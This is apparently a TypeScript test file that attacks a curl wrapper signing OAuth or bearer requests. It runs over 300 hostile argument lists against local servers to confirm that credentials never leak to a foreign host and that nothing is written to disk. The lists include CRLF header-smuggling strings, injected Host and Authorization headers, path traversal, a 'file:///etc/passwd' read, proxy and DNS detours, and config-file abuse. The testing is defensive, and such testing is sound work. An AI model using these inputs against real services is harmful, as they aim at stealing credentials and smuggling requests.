/**
 * Lists of arguments as somebody would write them who wants a secret, a request that is not what was signed, or one that is sent twice:
 * real curl through the built command, against servers of this machine that verify. Needs curl and a build.
 */
import { type ChildProcess, fork } from "node:child_process"
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs"
import { createServer, type IncomingMessage, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { fileURLToPath } from "node:url"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { optionKind, optionNames } from "../../src/api/curlOptions.js"
import { parseForm } from "../../src/oauth/index.js"
import { type SeenNonces, verify } from "../../src/oauth/verify/index.js"

const runner = fileURLToPath(new URL("curl-lists.mjs", import.meta.url))
const CANARY = "TOPSECRET"

interface Met {
  readonly url: string
  readonly method: string
  readonly authorization: string | undefined
  readonly accepted: boolean
  readonly length: number
}

let [folder, base, foreign] = ["", "", ""]
let [api, evil]: Server[] = []
let child: ChildProcess
let printed = ""
let seen: SeenNonces = {}
let met: Met[] = []
let foreignMet: Met[] = []
let refusals = 0

const listen = (server: Server): Promise<string> =>
  new Promise((done) => {
    server.listen(0, "127.0.0.1", () => done(`http://127.0.0.1:${(server.address() as AddressInfo).port}`))
  })

const bodyOf = async (request: IncomingMessage): Promise<string> => {
  const parts: Buffer[] = []
  for await (const part of request) parts.push(part as Buffer)
  return Buffer.concat(parts).toString("utf8")
}

const verified = (request: IncomingMessage, body: string): boolean => {
  const { authorization, "content-type": type = "" } = request.headers
  if (authorization?.startsWith("Bearer ")) return authorization === `Bearer ${CANARY}-api`
  const form =
    type.split(";")[0]?.toLowerCase() === "application/x-www-form-urlencoded" ? parseForm(body) : null
  const verdict = verify({
    request: {
      method: request.method ?? "",
      url: base + request.url,
      ...(authorization === undefined ? {} : { authorization }),
      ...(form?._tag === "Right" ? { form: form.right } : {}),
    },
    secrets: {
      consumer: (asked) => (asked.consumer === "app" ? `${CANARY}-consumer` : null),
      token: (asked) => (asked.token === "at" ? `${CANARY}-token` : null),
    },
    now: Math.floor(Date.now() / 1000),
    window: 300,
    seen,
  })
  seen = verdict.seen
  return verdict._tag === "Accepted"
}

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "runplan-attacks-"))
  api = createServer(async (request, answer) => {
    const body = await bodyOf(request).catch(() => "")
    const { method = "", url = "", headers } = request
    const accepted = verified(request, body)
    met.push({ method, url, authorization: headers.authorization, accepted, length: body.length })
    const target = new URL(url, base)
    const to = target.searchParams.get("to")
    const status = Number(target.searchParams.get("status") ?? "200")
    const isBusy = target.searchParams.has("busy") && met.length <= Number(target.searchParams.get("busy"))
    if (isBusy) answer.writeHead(503).end("busy")
    else if (to !== null) answer.writeHead(status, { location: to }).end("moved")
    else answer.writeHead(accepted ? 200 : 401).end(accepted ? "accepted" : "refused")
  })
  evil = createServer(async (request, answer) => {
    const body = await bodyOf(request).catch(() => "")
    const { method = "", url = "", headers } = request
    foreignMet.push({
      method,
      url,
      authorization: headers.authorization ?? headers["proxy-authorization"],
      accepted: false,
      length: body.length,
    })
    answer.end("evil")
  })
  base = await listen(api)
  foreign = await listen(evil)
  const write = (name: string, text: string) => writeFileSync(join(folder, name), text)
  write("platform.json", JSON.stringify({ addresses: { api: base, bridge: base } }))
  write(
    "oauth.env",
    `OAUTH_CONSUMER_KEY=app\nOAUTH_CONSUMER_SECRET=${CANARY}-consumer\nOAUTH_TOKEN=at\nOAUTH_TOKEN_SECRET=${CANARY}-token\n`,
  )
  write("token.env", `API_TOKEN=${CANARY}-api\n`)
  write("curlrc", `url = "${foreign}/"\nheader = "X-Evil: 1"\n`)
  write("headers", "Authorization: Basic eDp5\nX-Evil: 1\n")
  write("form", "a=1\nb=2")
  write("large", `a=${"x".repeat(3_000_000)}&b=%C3%A9`)
  child = fork(runner, { stdio: ["ignore", "pipe", "pipe", "ipc"], cwd: folder })
  child.stdout?.on("data", (chunk) => {
    printed += chunk
  })
  child.stderr?.on("data", (chunk) => {
    printed += chunk
  })
})
afterAll(() => {
  child.kill()
  api?.close()
  evil?.close()
  rmSync(folder, { recursive: true, force: true })
})

interface Ended {
  readonly status: number
  readonly errors: string
}

const runWith = (file: string, words: readonly string[]): Promise<Ended> =>
  new Promise((done) => {
    met = []
    foreignMet = []
    child.once("message", (message) => done(message as Ended))
    const before = ["curl", "--platform", "platform.json", "--secrets-from", file]
    child.send({ words: [...before, "-m", "5", "-sS", ...words], folder })
  })

/** A redirect may name a user, and curl sends that; it is nothing of the credential's. */
const isOurs = ({ authorization }: Met): boolean => /^(?:OAuth|Bearer) /i.test(authorization ?? "")

const ours: ReadonlySet<string> = new Set(["oauth.env", "token.env"])

/** What every list is held to, whatever comes of it. */
const hold = async (words: readonly string[], most = 1, file = "oauth.env"): Promise<Ended> => {
  const ended = await runWith(file, words)
  const list = words.join(" ")
  // Nothing that belongs to the credential went elsewhere.
  expect([list, foreignMet.filter(isOurs)]).toEqual([list, []])
  // Nothing with a header came that is not what was signed, or a second time.
  expect([list, met.filter((one) => isOurs(one) && !one.accepted)]).toEqual([list, []])
  expect([list, met.length <= most, met.some(({ url }) => /^\/(?:v2\/)?evil(?:[?]|$)/.test(url))]).toEqual([
    list,
    true,
    false,
  ])
  if (ended.status === 1) {
    refusals++
    expect([list, met, foreignMet]).toEqual([list, [], []])
  }
  // Nothing of it is in a file.
  for (const name of readdirSync(folder)) {
    const path = join(folder, name)
    if (ours.has(name) || !statSync(path).isFile() || statSync(path).size > 1_000_000) continue
    expect([list, name, /oauth_signature|TOPSECRET/.test(readFileSync(path, "latin1"))]).toEqual([
      list,
      name,
      false,
    ])
  }
  return ended
}

const SMUGGLED = `x\r\nAuthorization: Basic eDp5\r\nHost: evil.test\r\n\r\nGET /v2/evil HTTP/1.1\r\nHost: x`
let lists = 0
const each = async (
  all: readonly (readonly string[])[],
  most = 1,
  file?: string,
): Promise<readonly Ended[]> => {
  const ended: Ended[] = []
  for (const words of all) {
    lists++
    ended.push(await hold(words, most, file))
  }
  return ended
}

describe("an attacker's arguments", () => {
  const valued = optionNames.filter((name) => optionKind(name) === "valued")
  const flags = optionNames.filter((name) => optionKind(name) === "flag")

  test("with lines in the value of every option", async () => {
    await each(valued.map((name) => [`--${name}`, SMUGGLED, "/v2/self"]))
    await each(valued.map((name) => [`--${name}`, "a\nb", "/v2/self"]))
  })

  test("with every option that has a value, and with every flag, on and off", async () => {
    await each(
      valued.map((name) => [`--${name}`, "1", "/v2/self"]),
      2,
    )
    await each(valued.map((name) => [`--${name}`, `${foreign}/x`, "/v2/self"]))
    await each(flags.map((name) => [`--${name}`, "/v2/self"]))
    await each(flags.map((name) => [`--no-${name}`, "/v2/self"]))
    await each(
      flags.map((name) => [`--${name}`, "-d", "a=1", "/v2/self"]),
      1,
      "token.env",
    )
  })

  test("with headers of their own", async () => {
    const headers = [
      "Authorization: Basic eDp5",
      "authorization:x",
      " Authorization: x",
      "Authorization\t: x",
      "AUTHORIZATION;",
      "Authorization:",
      "Host: evil.test",
      "host;",
      "Content-Length: 0",
      "Content-Length: 99",
      "content-length:",
      "Transfer-Encoding: chunked",
      "Transfer-Encoding: identity",
      "transfer-encoding: gzip",
      "X: y\rHost: evil",
      "X: y\u0085Host: evil",
      "X\0y: z".replace("\0", "\u0001"),
      "@headers",
      "Content-Type: application/x-www-form-urlencoded",
      "Content-Type: text/plain",
      "Content-Type: application/x-www-form-urlencoded, text/plain",
      "Content-Type : application/x-www-form-urlencoded",
      "Expect: 100-continue",
      "Connection: keep-alive, Authorization",
      "Upgrade: h2c",
    ]
    await each(headers.map((header) => ["-H", header, "/v2/self"]))
    await each(headers.map((header) => ["-H", header, "-d", "a=1", "/v2/self"]))
    await each(
      headers.map((header) => [`-H${header}`, "--json", "{}", "/v2/self"]),
      1,
      "token.env",
    )
  })

  test("with places of their own", async () => {
    const port = new URL(base).port
    const urls = [
      foreign,
      `${foreign}/v2/self`,
      `//127.0.0.1:${new URL(foreign).port}/v2/self`,
      `http://127.0.0.1:${port}@${new URL(foreign).host}/v2/self`,
      `http://user:${CANARY}@127.0.0.1:${port}/v2/self`,
      `${base}.evil.test/v2/self`,
      `${base}/v2/../evil`,
      `${base}/v2/%2e%2e/evil`,
      `${base}/v2/..%2fevil`,
      `${base}\\@${new URL(foreign).host}/v2/self`,
      `${base}/v3/self`,
      `${base}/`,
      "/v2/self\r\nHost: evil",
      "/v2/self HTTP/1.1\r\nX: y",
      "/v2/{self,evil}",
      "/v2/[1-9]",
      "/v2/self?a={b}",
      "file:///etc/passwd",
      "@form",
      "-",
      "",
      " /v2/self",
      "/v2/self\t",
      "ftp://127.0.0.1/v2/self",
      `http://[::ffff:127.0.0.1]:${port}/v2/self`,
      `http://127.1:${port}/v2/self`,
      `http://2130706433:${port}/v2/self`,
      `HTTP://127.0.0.1:${port}/v2/self`,
      `${base}/v2/self#@${new URL(foreign).host}`,
      `${base}/v2/self?x=@${foreign}`,
    ]
    await each(urls.map((url) => [url]))
    await each(urls.map((url) => ["--url", url, "-g"]))
    await each(urls.map((url) => ["/v2/self", url]))
  })

  test("with detours", async () => {
    const { host, port } = new URL(foreign)
    const here = new URL(base)
    const detours = [
      ["-x", foreign],
      ["--proxy", foreign, "-p"],
      ["--proxy1.0", host],
      ["--preproxy", `socks5://${host}`],
      ["--socks5", host],
      ["--socks4a", host],
      ["--connect-to", `::127.0.0.1:${port}`],
      ["--resolve", `${here.host}:127.0.0.1`],
      ["--unix-socket", join(folder, "none")],
      ["--abstract-unix-socket", "none"],
      ["--doh-url", foreign],
      ["--dns-servers", "127.0.0.1"],
      ["--request-target", "/v2/evil"],
      ["--next", foreign],
      ["-:", foreign],
      ["-K", "curlrc"],
      ["--config", "curlrc"],
      ["--variable", "a@oauth.env"],
      ["--expand-url", "{{a}}"],
      ["-T", "{form,headers}"],
      ["-T", "form", "-T", "headers"],
      ["--netrc-file", "headers"],
      ["-n"],
      ["-u", "a:b"],
      ["--anyauth", "-u", "a:b"],
      ["--digest"],
      ["--oauth2-bearer", "x"],
      ["--aws-sigv4", "a:b"],
      ["--location-trusted"],
      ["-k"],
      ["--haproxy-protocol"],
      ["--path-as-is"],
      ["--libcurl", "out.c"],
      ["--trace", "trace.txt"],
      ["--trace-ascii", "trace.txt"],
      ["-v", "--stderr", "err.txt"],
      ["--trace", "%", "--stderr", "err.txt"],
      ["-w", "@headers"],
      ["-X", "GET /v2/evil HTTP/1.1\r\nX:"],
      ["-X", "get"],
      ["-X", "GE T"],
    ]
    await each(detours.map((words) => [...words, "/v2/self"]))
    await each(
      detours.map((words) => ["/v2/self", ...words]),
      1,
      "token.env",
    )
  })

  test("with the beginnings of options, which some versions of curl take", async () => {
    const names = [
      "location-trusted",
      "config",
      "libcurl",
      "trace",
      "next",
      "request-target",
      "netrc-file",
      "proxy",
    ]
    const cut = names.flatMap((name) => [4, 6].map((length) => name.slice(0, length)))
    const ended = await each(
      cut.filter((name) => optionKind(name) === null).map((name) => [`--${name}`, foreign, "/v2/self"]),
    )
    for (const { status, errors } of ended) {
      expect(status).toBe(1)
      expect(errors).toMatch(/Did you mean "--/)
    }
  })

  test("with redirects to anywhere", async () => {
    const there = (status: number, to: string) => `/v2/move?status=${status}&to=${encodeURIComponent(to)}`
    for (const status of [301, 302, 303, 307, 308]) {
      for (const words of [
        ["-L"],
        ["-L", "-d", "a=1"],
        ["-L", "-X", "PUT", "-d", "a=1"],
        ["-LI"],
        ["-L", "-i", "-v"],
      ]) {
        lists++
        await hold([...words, there(status, "/v2/self?b=1")], 2)
        expect(met.map(({ accepted }) => accepted)).toEqual([true, true])
        lists++
        await hold([...words, there(status, `${foreign}/v2/self`)], 1)
        expect(foreignMet).toHaveLength(1)
      }
    }
    for (const to of [
      `${base}/other`,
      `${base}/v2/../other`,
      "//127.0.0.1:1/",
      `http://x@${new URL(base).host}/v2/self`,
    ]) {
      lists++
      await hold(["-L", there(302, to)], 2)
    }
    lists++
    await hold(
      ["-L", "--max-redirs", "3", there(302, there(302, there(302, there(302, there(302, "/v2/self")))))],
      4,
    )
    expect(met).toHaveLength(4)
    lists++
    const loop = await hold(["-L", "-sS", "--max-redirs", "1", there(302, there(302, "/v2/self"))], 2)
    expect(loop.status).toBe(47)
  })

  test("with retries, each signed anew", async () => {
    for (const [words, times] of [
      [["--retry", "2", "--retry-delay", "1"], 2],
      [["--retry", "1", "-d", "a=1"], 1],
      [["--retry", "1", "-d", "@-"], 1],
      [["--retry", "1", "-f", "-G", "-d", "a=1"], 1],
      [["--retry", "1", "-L"], 1],
    ] as const) {
      lists++
      const { status } = await hold([...words, `/v2/self?busy=${times}`], times + 1)
      expect(met.map(({ accepted }) => accepted)).toEqual(Array(times + 1).fill(true))
      expect(status).toBe(0)
    }
    lists++
    await hold(["--retry", "3", "--json", "@-", "/v2/self?busy=1"])
    expect(met).toHaveLength(1)
  })

  test("with a form of 3 MB", async () => {
    for (const words of [
      ["-d", "@large"],
      ["--data-binary", "@large"],
      ["--data-urlencode", "n@large"],
      ["-d", "@large", "-d", "@form"],
    ]) {
      lists++
      const { status } = await hold([...words, "/v2/self"])
      expect(status).toBe(0)
      expect(met.map(({ accepted, length }) => accepted && length >= 3_000_000)).toEqual([true])
    }
  })

  test("print no secret on the way, and are at least 300", () => {
    expect(printed).not.toContain(`${CANARY}-consumer`)
    expect(printed).not.toContain(`${CANARY}-token`)
    expect(lists).toBeGreaterThan(300)
    console.log(`${lists} lists of arguments, ${refusals} of them refused`)
  })
})
